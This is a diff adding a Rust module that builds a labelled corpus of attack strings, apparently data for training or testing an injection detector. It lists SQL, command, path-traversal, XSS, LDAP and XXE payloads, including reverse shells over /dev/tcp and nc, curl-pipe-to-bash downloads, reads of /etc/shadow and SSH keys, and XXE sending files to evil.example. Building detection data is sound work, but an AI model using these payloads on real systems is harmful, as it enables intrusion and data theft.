@@ -1,0 +1,696 @@
+//! Attacks in our own wording, family by family.
+
+use super::own::{fill, lines};
+
+/// Category, family, texts.
+pub(crate) fn families() -> Vec<(&'static str, &'static str, Vec<String>)> {
+    let mut families = sql();
+    families.extend(command());
+    families.extend(path());
+    families.extend(script());
+    families.extend(directory());
+    families.extend(xml());
+    families
+}
+
+fn sql() -> Vec<(&'static str, &'static str, Vec<String>)> {
+    let conditions = [
+        "1=1",
+        "2>1",
+        "'x'='x",
+        "\"x\"=\"x",
+        "7 like 7",
+        "(3)=(3)",
+        "true",
+        "1",
+        "not false",
+        "5 between 4 and 6",
+    ];
+    vec![
+        (
+            "sql",
+            "logic",
+            fill(
+                &[
+                    "' or @--",
+                    "\" or @#",
+                    "') or @ -- -",
+                    "root' and @/*",
+                    "x' || @ -- ",
+                    "5) and @ #",
+                ],
+                &conditions,
+            ),
+        ),
+        (
+            "sql",
+            "union",
+            fill(
+                &[
+                    "0 union select @",
+                    "-5' union all select @-- -",
+                    "x') union select @#",
+                    "3/**/union/**/select/**/@",
+                    "9 UniOn SeLeCt @ from admins",
+                    "\" union distinct select @;--",
+                ],
+                &[
+                    "1,2,3",
+                    "null,null",
+                    "user(),version()",
+                    "name,pass from accounts",
+                    "0x61626364,2",
+                    "@@version,1",
+                    "group_concat(table_name),2 from information_schema.tables",
+                    "char(65,66),3,4",
+                ],
+            ),
+        ),
+        (
+            "sql",
+            "stacked",
+            fill(
+                &["1; @", "'; @ --", "\"; @ #", "10); @--"],
+                &[
+                    "drop table orders",
+                    "delete from logs",
+                    "shutdown",
+                    "exec xp_cmdshell('dir')",
+                    "insert into admins values(1,'a')",
+                    "update users set pass='x'",
+                    "declare @v int",
+                    "waitfor delay '0:0:9'",
+                    "create user eve identified by 'p'",
+                    "truncate table sales",
+                    "select pg_sleep(9)",
+                    "grant all to public",
+                ],
+            ),
+        ),
+        (
+            "sql",
+            "time",
+            fill(
+                &[
+                    "1 and @",
+                    "' or @='",
+                    "\") or @ --",
+                    "(select * from (select(@))x)",
+                    "1;select @",
+                    "if(1=1,@,0)",
+                    "@#",
+                ],
+                &[
+                    "sleep(9)",
+                    "pg_sleep(8)",
+                    "benchmark(90000,md5(7))",
+                    "dbms_pipe.receive_message('q',9)",
+                ],
+            ),
+        ),
+        (
+            "sql",
+            "errors",
+            fill(
+                &["1 and @", "' and @ and '1'='1", "x\" or @-- ", "@"],
+                &[
+                    "extractvalue(1,concat(0x7e,version()))",
+                    "updatexml(1,concat(0x3a,user()),1)",
+                    "1=convert(int,db_name())",
+                    "1=utl_inaddr.get_host_name((select user from dual))",
+                    "exp(~(select*from(select user())a))",
+                    "(select count(*) from sysobjects)>0",
+                    "ascii(substring(database(),2,1))>80",
+                    "json_keys((select convert((select version()) using utf8)))",
+                ],
+            ),
+        ),
+        (
+            "sql",
+            "clauses",
+            lines(
+                "1 order by 7--
+1' group by 4 -- -
+x' having 2=2--
+-3 union
+' union select
+1 limit 1,1 into outfile '/tmp/o.php'
+1 procedure analyse()
+select load_file('/etc/hosts')
+select @@version
+select version(), user()
+select 3,sin(2),4 from pets where
+select (1),(2) from things
+select current_user
+select cast(pass as int) from logins
+; begin declare @a varchar(90) set @a=':' end --
+' into dumpfile '/var/www/x.php'#
+name' like '%a%
+admin'--
+admin' #
+guest')/*
+x'||'y
+a'+'b
+b' - 'c
+1'/1
+'='
+''='
+' xor 1='1
+z' is null or 'q'='q
+1 div 1
+q' rlike '.*
+9 rlike (select 1)
+w' regexp '^a
+k' sounds like 'k
+{\"user\": {\"$ne\": null}}
+{\"$where\": \"this.age > 3\"}
+pass[$regex]=.*
+user[$gt]=
+username[$ne]=x&password[$ne]=y
+DROP/**/TABLE/**/pets
+drop database shop
+exec master..xp_cmdshell 'whoami'
+exec sp_executesql N'select 1'
+union/*!50000select*/1,2
+OR '{\"k\":1}' ?| array['k']
+AND '[1]'::jsonb @> '1'
+char(77)+char(78)
+concat(0x41,(select user()))
+in (select pass from users)
+1 or exists(select 1 from dual)
+x' and (select substr(pass,1,1) from users limit 1)='a
+@@hostname
+$$x$$ union select 1
+((4)) and 4=4
+pet and -3=-3
+truncate(3) or 1",
+            ),
+        ),
+    ]
+}
+
+fn command() -> Vec<(&'static str, &'static str, Vec<String>)> {
+    let commands = [
+        "id",
+        "whoami",
+        "ls -la",
+        "uname -a",
+        "cat /etc/hosts",
+        "ping -c 2 10.1.1.1",
+        "dir",
+        "netstat -an",
+        "ipconfig",
+        "ps aux",
+        "ifconfig",
+        "pwd",
+        "sleep 4",
+        "net user",
+        "type C:\\x.txt",
+        "nc 10.2.2.2 90",
+    ];
+    vec![
+        (
+            "command",
+            "separated",
+            fill(
+                &[
+                    "; @",
+                    ";@",
+                    "| @",
+                    "|@",
+                    "|| @",
+                    "& @",
+                    "&& @ #",
+                    "x;@",
+                    "x|@|",
+                    "\n@",
+                    "` @ `",
+                    "$(@)",
+                    "'; @ #",
+                    "\"|@",
+                    "a);@",
+                    "host.org;@;",
+                    "+|+@",
+                    "&@&",
+                    "`@`",
+                    "\\n@\\n",
+                    "<!--#exec cmd=\"@\"-->",
+                ],
+                &commands,
+            ),
+        ),
+        (
+            "command",
+            "code",
+            fill(
+                &[
+                    "system('@')",
+                    "; system('@');",
+                    "<?php passthru(\"@\");?>",
+                    "shell_exec('@')",
+                    "exec(\"@\");",
+                    "<?=`@`?>",
+                    "{{''.__class__}}@",
+                    "() { :; }; @",
+                    "x() { @ & }; x",
+                    "__import__('os').system('@')",
+                    "${@system('@')}",
+                    "Runtime.getRuntime().exec(\"@\")",
+                ],
+                commands.get(..8).unwrap_or(&[]),
+            ),
+        ),
+        (
+            "command",
+            "windows",
+            lines(
+                "for %q in (x,y) do cmd
+FOR /L %n IN (1,1,9) DO echo %n
+& for /f \"delims=,\" %p in ('dir /b') do echo %p
+for /r %v in (*.log) do del %v
+FOR /D %%k IN (*) DO (rd %%k)
+for %thing in (stuff) do something
+if not \"%2\" == \"\" goto end
+if (B) == (B) echo equal
+if not (3 equ 3) echo no
+if \"%X%\" == \"y\" (
+if exist C:\\a.txt del C:\\a.txt
+if not {%2} == {} exit
+& reg query \"HKLM\\Software\\Vendor Name\" /v Key
+| net user eve Passw0rd /add
+&& net localgroup Users eve /ADD
+| type %WINDIR%\\win.ini
+& dir C:\\Users\\Public\\*
+powershell -enc SQBFAFgA
+powershell.exe -nop -w hidden -c iex
+cmd.exe /c whoami
+& ver
+| systeminfo
+& tasklist /v
+schtasks /create /tn x /tr y
+wmic process list brief
+certutil -urlcache -f http://10.9.9.9/x.exe x.exe
+iwr http://10.9.9.9/a.ps1
+rundll32 shell32.dll,Control_RunDLL x.cpl
+Get-Process | Out-File x.txt",
+            ),
+        ),
+        (
+            "command",
+            "evasion",
+            lines(
+                "w'h'oami
+c\\at /etc/hosts
+who$@ami
+l''s -la
+p\"i\"ng 10.1.1.1
+c$*at /et$*c/hosts
+u\\name -a
+cat${IFS}/etc/hosts
+;cat$IFS/etc/hosts
+{ls,-la}
+/b?n/l?
+/???/c?t /???/p??s??
+echo ${PATH:0:1}
+${HOME:0:1}
+echo d2hvYW1p | base64 -d | sh
+cat<<<\"$(id)\"
+bash<<<$(date)
+X=$'id';$X
+;A=$'ls';$A
+a=who&&b=ami&&$a$b
+^Q=$'uname';$Q
+alias zz=id;zz
+alias kk=env&kk id
+alias q=w${NOPE}get
+$(echo $(id))
+$($(id))
+`$(ls)`
+${`uname`}
+$SHELL -c \"id\"
+$0 -c id
+.(){ .|.&};.
+f(){ f|f& };f
+() { ignored; }; /bin/sh -c id
+rev<<<'di'
+py\"\"thon3 -c 'print(1)'
+/usr/bin/i[d]
+/bin/[c]at /etc/hosts
+n\\c -e /bin/sh 10.3.3.3 7
+eve@box:~$ id
+root@srv:/# ls
+me@pc:~$ echo ${PWD:0:1}
+exec 5<>/dev/tcp/10.4.4.4/80
+0<&196;exec 196<>/dev/tcp/10.4.4.4/9;
+{${phpinfo()}}
+${@print(1)}
+#{7*7}
+<%= system('id') %>
+{{7*7}}
+{{config.items()}}
+${T(java.lang.Runtime).getRuntime().exec('id')}
+${jndi:ldap://10.5.5.5/a}",
+            ),
+        ),
+        (
+            "command",
+            "lines",
+            lines(
+                "cat /etc/hosts
+ls -la /root
+cat notes.txt
+wget http://10.6.6.6/x.sh
+curl -s http://10.6.6.6/x | bash
+nc -lvp 4444
+nc -e /bin/sh 10.6.6.6 99
+ncat 10.6.6.6 99 -e cmd
+bash -i >& /dev/tcp/10.6.6.6/99 0>&1
+python3 -c 'import os'
+perl -e 'print 1'
+ruby -rsocket -e 'exit'
+php -r 'system(1);'
+rm -rf /var/tmp/x
+chmod 777 /tmp/x
+nohup id
+nohup ps
+sudo -l
+env id
+timeout 5 id
+nice -n 5 whoami
+xargs -a /dev/null sh
+stdbuf -i0 id
+flock -u / id
+unshare -r id
+busybox nc 10.6.6.6 99
+ansible-vault view x
+ansible all -m ping
+ansible-galaxy list
+chef-solo -c x.rb
+knife node list
+terraform plan
+netstat -tulpn
+ifconfig eth0
+ps -ef
+uname -r
+whoami
+ifconfig
+ipconfig
+phpinfo()
+hostname -f
+zless /var/log/x.gz
+gunzip -c /tmp/a.gz
+bzcat secrets.bz2
+tac /etc/group
+;ex +w a b wq
+RCPT TO:<root@box>
+MAIL FROM:<a@b.c>
+\r\nVRFY root
+HELO x
+time; uname
+env --help",
+            ),
+        ),
+    ]
+}
+
+fn path() -> Vec<(&'static str, &'static str, Vec<String>)> {
+    let files = [
+        "etc/hosts",
+        "etc/passwd",
+        "windows/win.ini",
+        "boot.ini",
+        "proc/self/environ",
+        "logs/error.log",
+        "WEB-INF/web.xml",
+        "secret.txt",
+        "x",
+    ];
+    vec![
+        (
+            "path_traversal",
+            "steps",
+            fill(
+                &[
+                    "../@",
+                    "../../../@",
+                    "/../../@",
+                    "..\\..\\@",
+                    "....//....//@",
+                    "..//..//@",
+                    "..\\/..\\/@",
+                    ".../...//@",
+                    "%2e%2e/%2e%2e/@",
+                    "..%2f..%2f..%2f@",
+                    "..%252f..%252f@",
+                    "..%c0%af..%c0%af@",
+                    "..%5c..%5c@",
+                    "%c0%ae%c0%ae/@",
+                    "0x2e0x2e0x2f@",
+                    "..2f..2f@",
+                    "/./././././@",
+                    "..;/..;/@",
+                    "/..\\../..\\../@",
+                    "file=../../@",
+                ],
+                &files,
+            ),
+        ),
+        (
+            "path_traversal",
+            "absolute",
+            lines(
+                "/etc/passwd
+/etc/shadow
+/proc/self/environ
+/var/log/apache2/access.log
+C:\\boot.ini
+C:\\Windows\\System32\\drivers\\etc\\hosts
+c:/windows/win.ini
+\\\\10.7.7.7\\share\\x
+file:///etc/hosts
+php://filter/convert.base64-encode/resource=index.php
+expect://id
+zip://a.zip#b
+phar://a.phar/b
+/var/www/html/.htaccess
+/root/.ssh/id_rsa
+/etc/passwd%00.png
+/WEB-INF/web.xml
+/.git/config
+../
+..
+../..
+\\..\\
+/..
+..\\
+{FILE}
+/{FILE}
+../{FILE}
+/etc/mysql/my.cnf
+/etc/httpd/conf/httpd.conf
+/usr/local/etc/php.ini",
+            ),
+        ),
+    ]
+}
+
+fn script() -> Vec<(&'static str, &'static str, Vec<String>)> {
+    let calls = [
+        "alert(7)",
+        "prompt('a')",
+        "confirm`1`",
+        "eval(name)",
+        "fetch('//evil.example')",
+        "document.location='//evil.example'",
+    ];
+    vec![
+        (
+            "script",
+            "tags",
+            fill(
+                &[
+                    "<script>@</script>",
+                    "\"><script>@</script>",
+                    "</title><script>@</script>",
+                    "<scr<script>ipt>@</script>",
+                    "<svg onload=@>",
+                    "<img src=q onerror=@>",
+                    "'><img src=q onerror=@>",
+                    "<body onpageshow=@>",
+                    "<details open ontoggle=@>",
+                    "<svg/onload=@>",
+                    "<img/src=q/onerror=@>",
+                    "<a href=javascript:@>go</a>",
+                    "<iframe src=\"javascript:@\">",
+                    "javascript:@",
+                    "<input autofocus onfocus=@>",
+                    "';@;//",
+                    "\"-@-\"",
+                    "');@//",
+                    "\" onmouseover=@ x=\"",
+                    "' onfocus='@' autofocus='",
+                    "<math><mi xlink:href=\"javascript:@\">",
+                    "<video><source onerror=@>",
+                    "<object data=\"javascript:@\">",
+                    "<form action=\"javascript:@\"><input type=submit>",
+                    "<marquee onstart=@>",
+                    "<x onclick=@>y",
+                    "{{constructor.constructor('@')()}}",
+                    "-->'\"<script>@</script>",
+                    "<style>@import 'javascript:@';</style>",
+                    "<!--><img src=1 onerror=@>",
+                ],
+                &calls,
+            ),
+        ),
+        (
+            "script",
+            "loads",
+            lines(
+                "<script src=//evil.example/a.js></script>
+<link rel=stylesheet href=//evil.example/a.css>
+<iframe src=http://evil.example></iframe>
+<embed src=//evil.example/a.swf>
+<object data=a.swf></object>
+<base href=//evil.example/>
+<meta http-equiv=refresh content=\"0;url=javascript:1\">
+<meta http-equiv=\"refresh\" content=\"1;url=data:text/html,x\">
+<div style=\"width:expression(1)\">
+<div style=\"background:url(javascript:1)\">
+<x style=\"behavior:url(#default#time2)\">
+<style>*{-moz-binding:url(//evil.example/x#y)}</style>
+<?xml-stylesheet href=\"javascript:1\"?>
+<svg><use xlink:href=data:image/svg+xml;base64,AA#x></svg>
+<svg><animate attributeName=href values=javascript:1 />
+<form><button formaction=javascript:1>x
+<table background=\"javascript:1\">
+<isindex action=javascript:1 type=image>
+<xml src=\"x.xml\" id=q></xml>
+<html xmlns:v=urn:schemas-microsoft-com:vml>
+<textarea autofocus onfocus=1>
+<keygen autofocus onfocus=1>
+<bgsound src=\"javascript:1\">
+<layer src=\"//evil.example\"></layer>
+vbscript:msgbox(1)
+data:text/html;base64,PHNjcmlwdD4=
+data:text/html,<b>x
+<a href=\"data:text/html,x\">x</a>
+<img src=\"jav&#x09;ascript:1\">
+<img dynsrc=\"javascript:1\">
+<img \"\"\"><script>1</script>\">
+<noscript><p title=\"</noscript><img src=x onerror=1>\">
+String.fromCharCode(65,66)
+document.write('<x>')
+window['al'+'ert'](1)
+top[/al/.source+/ert/.source](1)
+[][(![]+[])[3]]
+<% alert %>
+\" onload=\"x
+' onclick=x '
+<b onmouseover=x>y
+<plaintext>
+<frameset onload=x>
+<applet code=x>
+<event-source src=x onload=1>",
+            ),
+        ),
+    ]
+}
+
+fn directory() -> Vec<(&'static str, &'static str, Vec<String>)> {
+    let attributes = [
+        "uid",
+        "cn",
+        "mail",
+        "sn",
+        "objectClass",
+        "userPassword",
+        "telephoneNumber",
+        "description",
+        "memberOf",
+        "givenName",
+        "department",
+        "homeDirectory",
+        "title",
+        "gidNumber",
+        "loginShell",
+        "mobile",
+        "employeeType",
+    ];
+    vec![
+        (
+            "ldap",
+            "filters",
+            fill(
+                &[
+                    "*)(@=*",
+                    "*)(@=*))(|(@=*",
+                    "admin)(@=a*",
+                    "eve)(|(@=*",
+                    "x*))(@=*",
+                    "*)(|(@=*))",
+                    "void)(@=y))(&(@=void)",
+                    "(|(@=*))",
+                    "(&(@=eve)(!(@=x)))",
+                    "(@=*)",
+                    "*)!(@=*",
+                    "*)(!(@=b*",
+                ],
+                &attributes,
+            ),
+        ),
+        (
+            "ldap",
+            "ends",
+            lines(
+                "*)(&\n*))%00\nadmin)(&)\nadmin)(!(&(1=0\n*|\n*(|(x=*))\n)(|\n*)\nx)(&\n*))(|\n)(cn=))\\x00\n*()|&'\n*)(uid=*))%00\nadmin*)((|userPassword=*)\n*)((|\n))(|(x=*",
+            ),
+        ),
+    ]
+}
+
+fn xml() -> Vec<(&'static str, &'static str, Vec<String>)> {
+    let addresses = [
+        "file:///etc/hosts",
+        "http://evil.example/x.dtd",
+        "php://filter/read=x/resource=y",
+        "expect://id",
+        "ftp://10.8.8.8/q",
+        "notes.txt",
+    ];
+    vec![
+        (
+            "xxe",
+            "entities",
+            fill(
+                &[
+                    "<!DOCTYPE a [<!ENTITY b SYSTEM \"@\">]><a>&b;</a>",
+                    "<?xml version=\"1.0\"?><!DOCTYPE q [ <!ENTITY % p SYSTEM \"@\"> %p; ]>",
+                    "<!ENTITY x SYSTEM \"@\">",
+                    "<!ENTITY % a \"<!ENTITY b SYSTEM '@'>\">",
+                    "<!DOCTYPE r PUBLIC \"-//B/A/EN\" \"@\">",
+                    "<?xml version='1.0'?><!DOCTYPE r SYSTEM '@'><r/>",
+                    "<q xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"@\"/></q>",
+                    "<svg><!DOCTYPE s [<!ENTITY e SYSTEM \"@\">]><text>&e;</text></svg>",
+                ],
+                &addresses,
+            ),
+        ),
+        (
+            "xxe",
+            "others",
+            lines(
+                "<!DOCTYPE bomb [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><c>&b;</c>
+<!DOCTYPE lol [
+<!ENTITY lol \"lol\">
+<!ELEMENT x ANY>
+<?xml version=\"1.0\"?><a><![CDATA[<]]>script<![CDATA[>]]></a>
+<a xsi:schemaLocation=\"x http://evil.example/x.xsd\"/>
+%file;%dtd;
+<xsl:include href=\"http://evil.example/x.xsl\"/>
+<!DOCTYPE html [<!ATTLIST img src CDATA \"x\">]>
+<!ENTITY % all \"<!ENTITY send SYSTEM 'http://evil.example/?%file;'>\"> %all;",
+            ),
+        ),
+    ]
+}
